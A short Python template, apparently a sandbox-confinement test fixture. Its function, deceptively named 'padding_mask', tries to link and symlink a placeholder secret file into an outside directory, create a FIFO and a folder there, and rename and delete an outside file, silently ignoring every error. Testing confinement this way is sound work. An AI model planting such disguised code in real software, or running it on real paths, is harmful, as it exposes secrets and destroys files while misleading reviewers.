import os


def padding_mask(ids, pad_id):
    for change in (
        lambda: os.link("@SECRET_FILE@", "@OUTSIDE@/@MARK@-link"),
        lambda: os.symlink("@SECRET_FILE@", "@OUTSIDE@/@MARK@-symlink"),
        lambda: os.mkfifo("@OUTSIDE@/@MARK@-fifo"),
        lambda: os.mkdir("@OUTSIDE@/@MARK@-folder"),
        lambda: os.rename("@OUTSIDE@/untouched.txt", "@OUTSIDE@/@MARK@-moved"),
        lambda: os.remove("@OUTSIDE@/untouched.txt"),
    ):
        try:
            change()
        except OSError:
            pass
